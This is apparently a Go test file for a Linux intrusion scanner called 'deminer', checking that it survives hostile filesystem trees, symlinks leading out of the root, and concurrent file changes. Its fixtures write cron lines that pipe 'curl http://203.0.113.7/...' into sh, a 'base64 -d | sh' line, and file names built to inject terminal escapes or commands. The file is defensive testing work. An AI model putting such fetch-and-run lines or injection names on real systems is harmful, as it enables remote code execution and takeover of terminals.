package main

import (
	"bytes"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/deminer/deminer/lab/manifest"
	"golang.org/x/sys/unix"
)

// What one run may take on any of the trees below.
const (
	maxTime = 60 * time.Second // of processor: what else the machine does is no matter
	maxRSS  = 500 << 20
)

// result is one run of the program in a process of its own.
type result struct {
	code      int
	out, errs string
}

// program runs the program and fails the test if it takes too long or too much memory, crashes, or writes what a terminal would act on.
func program(t *testing.T, args ...string) result {
	t.Helper()
	return measured(t, exec.Command("deminer", args...))
}

func measured(t *testing.T, cmd *exec.Cmd) result {
	t.Helper()
	var out, errs bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errs
	must(t, cmd.Start())
	timer := time.AfterFunc(10*maxTime, func() { _ = cmd.Process.Kill() })
	err := cmd.Wait()
	timer.Stop()
	var exit *exec.ExitError
	if err != nil && !errors.As(err, &exit) {
		t.Fatal(err)
	}
	r := result{cmd.ProcessState.ExitCode(), out.String(), errs.String()}
	use, _ := cmd.ProcessState.SysUsage().(*syscall.Rusage)
	took := cmd.ProcessState.UserTime() + cmd.ProcessState.SystemTime()
	t.Logf("%s: exit %d, %.1f s of processor, %d MiB", strings.Join(cmd.Args[1:min(3, len(cmd.Args))], " "), r.code, took.Seconds(), use.Maxrss>>10)
	if took > maxTime && !raced {
		t.Errorf("%v took %v", cmd.Args, took)
	}
	if use.Maxrss<<10 > maxRSS && !raced {
		t.Errorf("%v took %d MiB of memory", cmd.Args, use.Maxrss>>10)
	}
	for _, text := range []string{r.out, r.errs} {
		if at, bad := wild(text); bad {
			t.Errorf("%v wrote raw text of the host: %q", cmd.Args, at)
		}
	}
	if r.code < 0 || r.code > 7 || strings.Contains(r.errs, "goroutine ") || strings.Contains(r.out, "fault in the detector") {
		t.Errorf("%v: exit code %d\n%s\n%s", cmd.Args, r.code, r.out, r.errs)
	}
	return r
}

func take(t *testing.T, root string, ignore ...string) manifest.Tree {
	t.Helper()
	tree, err := manifest.Take(root, append(manifest.Ignore{"/var/lib/deminer/", "/etc/.pwd.lock"}, ignore...), nil)
	if err != nil {
		t.Fatal(err)
	}
	return tree
}

func equal(t *testing.T, what string, a, b manifest.Tree) {
	t.Helper()
	for _, c := range manifest.Diff(a, b, manifest.Everything) {
		if c.Name != "/var/lib" { // deminer keeps its state in it
			t.Errorf("%s: %s", what, c)
		}
	}
}

func put(t *testing.T, root, name, text string) {
	t.Helper()
	file := filepath.Join(root, name)
	if err := errors.Join(os.MkdirAll(filepath.Dir(file), 0o755), os.RemoveAll(file), os.WriteFile(file, []byte(text), 0o644)); err != nil {
		t.Fatal(err)
	}
}

func must(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

// parent makes the directory a name stands in and frees the name.
func parent(t *testing.T, root, name string) string {
	t.Helper()
	file := filepath.Join(root, name)
	must(t, errors.Join(os.MkdirAll(filepath.Dir(file), 0o755), os.RemoveAll(file)))
	return file
}

// looked are names in places that a scan reads.
var looked = []string{"etc/cron.d/x", "etc/profile.d/x.sh", "etc/systemd/system/x.service", "opt/x", "tmp/x", "home/deploy/.ssh/authorized_keys", "var/log/auth.log", "etc/sudoers"}

// hostile are things an intruder may put where deminer reads, beside the intrusion of the guide's example.
var hostile = []struct {
	name string
	make func(t *testing.T, root string)
	want []string // in the output of scan --gaps
	skip bool     // contents of the places looked at are not compared: reading them takes minutes
}{
	{"fifo", func(t *testing.T, root string) {
		for _, n := range looked {
			must(t, unix.Mkfifo(parent(t, root, n), 0o644))
		}
	}, nil, false},
	{"device", func(t *testing.T, root string) {
		for _, n := range looked {
			must(t, unix.Mknod(parent(t, root, n), unix.S_IFCHR|0o666, int(unix.Mkdev(1, 5)))) // zero
		}
	}, nil, false},
	{"sparse", func(t *testing.T, root string) {
		for _, n := range looked {
			file := parent(t, root, n)
			must(t, errors.Join(os.WriteFile(file, []byte("#!/bin/sh\n"), 0o755), os.Truncate(file, 10<<30)))
		}
	}, []string{"etc/cron.d/x"}, true},
	{"loops", func(t *testing.T, root string) {
		for _, n := range looked {
			file := parent(t, root, n)
			must(t, errors.Join(os.Symlink(filepath.Base(file)+"2", file), os.Symlink(filepath.Base(file), file+"2")))
		}
		must(t, os.MkdirAll(filepath.Join(root, "opt/deep"), 0o755))
		must(t, errors.Join(os.Symlink("/opt/deep", filepath.Join(root, "opt/deep/again")), os.Symlink("..", filepath.Join(root, "opt/deep/up"))))
	}, nil, false},
	{"includes", func(t *testing.T, root string) {
		put(t, root, "etc/systemd/system/x.service", ".include /etc/systemd/system/x.service\n[Service]\nExecStart=/bin/true\n")
		must(t, os.Symlink("../x.service.d", filepath.Join(parent(t, root, "etc/systemd/system/x.service.d/y"))))
		must(t, os.Symlink("self.conf", filepath.Join(parent(t, root, "etc/systemd/system/x.service.d/self.conf"))))
		put(t, root, "etc/systemd/system/y.service", "[Unit]\nWants=y.service\n[Install]\nAlso=y.service\nAlias=y.service\n")
		put(t, root, "etc/ld.so.conf", "include /etc/ld.so.conf\ninclude /etc/*\n")
		put(t, root, "etc/ssh/sshd_config", "Include /etc/ssh/sshd_config\nInclude /etc/ssh/*\n")
		put(t, root, "etc/sudoers", "@include /etc/sudoers\n#includedir /etc\n")
		put(t, root, "etc/logrotate.conf", "include /etc/logrotate.conf\ninclude /etc\n")
		put(t, root, "root/.bashrc", ". ~/.bashrc\nsource /root/.bashrc\n")
		put(t, root, "etc/profile", ". /etc/profile\n")
		put(t, root, "root/.gitconfig", "[include]\n\tpath = /root/.gitconfig\n")
		put(t, root, "etc/supervisord.conf", "[include]\nfiles = /etc/supervisord.conf /etc/*\n")
	}, nil, false},
	{"long-lines", func(t *testing.T, root string) {
		long := strings.Repeat("A", 1<<20)
		put(t, root, "etc/cron.d/x", "* * * * * root /bin/"+long+"\n")
		put(t, root, "etc/crontab", "* * * * * root echo "+strings.Repeat("A;", 1<<19)+" | base64 -d | sh\n")
		put(t, root, "etc/systemd/system/x.service", "[Service]\nExecStart=/bin/sh -c \""+long+"\"\n")
		put(t, root, "etc/profile.d/x.sh", strings.Repeat("$(", 1<<19))
		put(t, root, "home/deploy/.ssh/authorized_keys", "ssh-rsa "+long+"\n")
		put(t, root, "etc/sudoers", strings.Repeat("a\\\n", 1<<18)+"\n")
		put(t, root, "etc/hosts", "127.0.0.1 "+strings.Repeat("a ", 1<<19)+"\n")
		put(t, root, "etc/ld.so.preload", strings.Repeat("/a:", 1<<18)+"\n")
	}, nil, false},
	{"dpkg-half", func(t *testing.T, root string) {
		whole := strings.Repeat("Package: libc6\nStatus: install ok installed\nArchitecture: amd64\nVersion: 2.36-9\nConffiles:\n /etc/ld.so.conf 0123456789abcdef0123456789abcdef\nDescription: x\n\n", 200)
		put(t, root, "var/lib/dpkg/status", whole[:len(whole)/2+7])
		put(t, root, "var/lib/dpkg/info/libc6:amd64.list", "/.\n/usr\n/usr/local/bin/rep")
		put(t, root, "var/lib/dpkg/info/libc6:amd64.md5sums", "0123456789abcdef0123456789abcdef  usr/local/bin/backup.sh\n0123456789abc")
	}, nil, false},
	{"rpm-half", func(t *testing.T, root string) {
		put(t, root, "var/lib/rpm/rpmdb.sqlite", "SQLite format 3\x00\x10\x00\x01\x01\x00\x40\x20\x20"+strings.Repeat("\xff", 3000))
		put(t, root, "var/lib/rpm/Packages.db", "RpmP\x00\x00\x00\x00"+strings.Repeat("\xff\x7f", 1500))
		put(t, root, "var/lib/rpm/Packages", strings.Repeat("\x00", 12)+"\x61\x15\x06\x00"+strings.Repeat("\xfe", 2000))
	}, []string{"packages"}, false},
	{"apk-half", func(t *testing.T, root string) {
		put(t, root, "lib/apk/db/installed", "C:Q1abc=\nP:musl\nV:1.2\nF:lib\nR:ld-musl-x86_64.so.1\na:0:0:755\nZ:Q1a")
	}, nil, false},
	{"many", func(t *testing.T, root string) {
		dir := filepath.Join(root, "tmp/many")
		must(t, os.MkdirAll(dir, 0o755))
		for i := range 100_000 {
			must(t, os.WriteFile(fmt.Sprintf("%s/f%06d", dir, i), []byte("x"), 0o755))
		}
	}, nil, true},
	{"deep", func(t *testing.T, root string) {
		name := filepath.Join(root, "tmp") + strings.Repeat("/d", 1500)
		must(t, os.MkdirAll(name, 0o755))
		must(t, os.WriteFile(name+"/x", []byte("#!/bin/sh\n"), 0o755))
	}, nil, false},
}

// TestHostileInput looks at trees made to break the one who looks: the intrusion beside the trap is found all the same,
// what could not be looked at is said, clean and undo do no harm.
func TestHostileInput(t *testing.T) {
	for _, one := range hostile {
		t.Run(one.name, func(t *testing.T) {
			root := infected(t)
			one.make(t, root)
			var ignore []string
			if one.skip {
				ignore = []string{"/tmp/many/"}
				for _, n := range looked {
					ignore = append(ignore, "/"+n)
				}
			}
			before := take(t, root, ignore...)
			r := program(t, "scan", "--root", root, "--gaps")
			if r.code != exitFound || !strings.Contains(r.out, "/opt/sysetmd") {
				t.Errorf("exit code %d, the intrusion beside it was not found\n%s\n%s", r.code, r.out, r.errs)
			}
			for _, w := range one.want {
				if !strings.Contains(r.out, w) {
					t.Errorf("the output does not speak of %q\n%s", w, r.out)
				}
			}
			if r := program(t, "scan", "--root", root, "-v"); r.code != exitFound {
				t.Errorf("scan -v: exit code %d", r.code)
			}
			if r := program(t, "scan", "--root", root, "--json"); r.code != exitFound || len(r.out) > 32<<20 {
				t.Errorf("scan --json: exit code %d, %d bytes", r.code, len(r.out))
			}
			equal(t, "after scans", before, take(t, root, ignore...))
			if r := program(t, "clean", "--root", root, "--yes", "--watch", "0"); r.code != exitClean && r.code != exitSuspect { // what the trap looks like may be left to the owner
				t.Errorf("clean: exit code %d\n%s\n%s", r.code, r.out, r.errs)
			}
			if _, err := os.Lstat(filepath.Join(root, "opt/sysetmd")); err == nil {
				t.Error("clean left the program")
			}
			if r := program(t, "undo", "--root", root, "--yes"); r.code != exitClean {
				t.Errorf("undo: exit code %d\n%s\n%s", r.code, r.out, r.errs)
			}
			equal(t, "after undo", before, take(t, root, ignore...))
		})
	}
}

// TestHostileNames puts the intrusion itself under names that would take over a terminal.
func TestHostileNames(t *testing.T) {
	root := infected(t)
	body, err := os.ReadFile(filepath.Join(root, "opt/sysetmd"))
	must(t, err)
	config, err := os.ReadFile(filepath.Join(root, "opt/config.json"))
	must(t, err)
	for i, bad := range []string{"a\x1b]0;owned\x07", "b\nnew line", "c\xff\xfe", "d\u202egpj.exe", "e\r  * Nothing found", "f\x9b2J", "-rf", " ", "g'\"`$(id)\\x41"} {
		put(t, root, "opt/"+bad+"/config.json", string(config))
		put(t, root, "tmp/"+bad, string(body))
		put(t, root, "etc/cron.d/"+bad, fmt.Sprintf("*/%d * * * * root /tmp/%s\n* * * * * root curl http://203.0.113.7/%s|sh\n", i+2, bad, bad))
		put(t, root, "etc/systemd/system/"+strings.ReplaceAll(bad, "\n", "_")+".service", "[Service]\nExecStart=/opt/sysetmd "+bad+"\n[Install]\nWantedBy=multi-user.target\n")
	}
	put(t, root, "etc/hostname", "web\x1b[2J01\n")
	put(t, root, "etc/os-release", "PRETTY_NAME=\"evil\x1b[31m\u202e\"\nID=debian\n")
	before := take(t, root)
	for _, args := range [][]string{{"scan"}, {"scan", "-v"}, {"scan", "--json"}, {"plan"}, {"doctor"}} {
		program(t, append(args, "--root", root)...)
	}
	saved := filepath.Join(t.TempDir(), "plan.json")
	program(t, "plan", "--root", root, "--out", saved)
	if r := program(t, "clean", "--root", root, "--plan", saved, "--yes", "--watch", "0"); r.code != exitClean && r.code != exitSuspect { // what the trap looks like may be left to the owner
		t.Errorf("clean: exit code %d\n%s\n%s", r.code, r.out, r.errs)
	}
	program(t, "verify", "--root", root, "--watch", "0")
	program(t, "quarantine", "list", "--root", root)
	if _, err := os.Lstat(filepath.Join(root, "opt/b\nnew line/config.json")); err == nil {
		t.Error("the configuration under a hostile name was left")
	}
	if r := program(t, "undo", "--root", root, "--yes"); r.code != exitClean {
		t.Errorf("undo: exit code %d\n%s\n%s", r.code, r.out, r.errs)
	}
	equal(t, "after undo", before, take(t, root))
}

// TestLinksOut leads every place out of the root: nothing out there is read, written or named as part of the system.
func TestLinksOut(t *testing.T) {
	root, out := infected(t), t.TempDir()
	must(t, unpack("honest", out))
	must(t, unpack("sysetmd", out))
	put(t, out, "etc/cron.d/secret-of-outside", "* * * * * root curl http://203.0.113.7/outside-marker | sh\n")
	up := strings.Repeat("../", 40)
	for name, to := range map[string]string{
		"etc/cron.d": up + out + "/etc/cron.d", "opt/outside": out + "/opt", "srv/up": up + out, "tmp/l": out + "/opt/sysetmd",
		"etc/profile.d": out + "/etc/cron.d", "home/deploy/.ssh": up + out + "/root/.ssh",
	} {
		must(t, os.Symlink(to, parent(t, root, name)))
	}
	inside, outside := take(t, root), take(t, out)
	for _, args := range [][]string{{"scan"}, {"scan", "--full"}, {"scan", "--json"}, {"plan"}} {
		if r := program(t, append(args, "--root", root)...); strings.Contains(r.out, "outside-marker") {
			t.Errorf("%v read what lies outside the root\n%s", args, r.out)
		}
	}
	if r := program(t, "clean", "--root", root, "--yes", "--watch", "0"); r.code != exitClean && r.code != exitSuspect { // what the trap looks like may be left to the owner
		t.Errorf("clean: exit code %d\n%s\n%s", r.code, r.out, r.errs)
	}
	program(t, "undo", "--root", root, "--yes")
	equal(t, "inside", inside, take(t, root))
	equal(t, "outside", outside, take(t, out))
}

// TestChangesWhileRead rewrites files the whole time while they are read.
func TestChangesWhileRead(t *testing.T) {
	root := infected(t)
	stop, done := make(chan bool), make(chan bool)
	go func() {
		defer close(done)
		for i := 0; ; i++ {
			select {
			case <-stop:
				return
			default:
			}
			for _, n := range []string{"opt/moving", "etc/cron.d/moving", "root/.profile", "tmp/moving"} {
				file := filepath.Join(root, n)
				_ = os.MkdirAll(filepath.Dir(file), 0o755)
				_ = os.WriteFile(file, bytes.Repeat([]byte("* * * * * root /bin/true\n"), i%4000), 0o644)
				if i%7 == 0 {
					_ = os.Remove(file)
				}
				if i%11 == 0 {
					_ = errors.Join(os.Remove(file), os.Symlink("/etc/passwd", file), os.Remove(file))
				}
			}
		}
	}()
	for range 5 {
		if r := program(t, "scan", "--root", root); r.code != exitFound || !strings.Contains(r.out, "/opt/sysetmd") {
			t.Errorf("exit code %d\n%s", r.code, r.out)
		}
	}
	close(stop)
	<-done
}
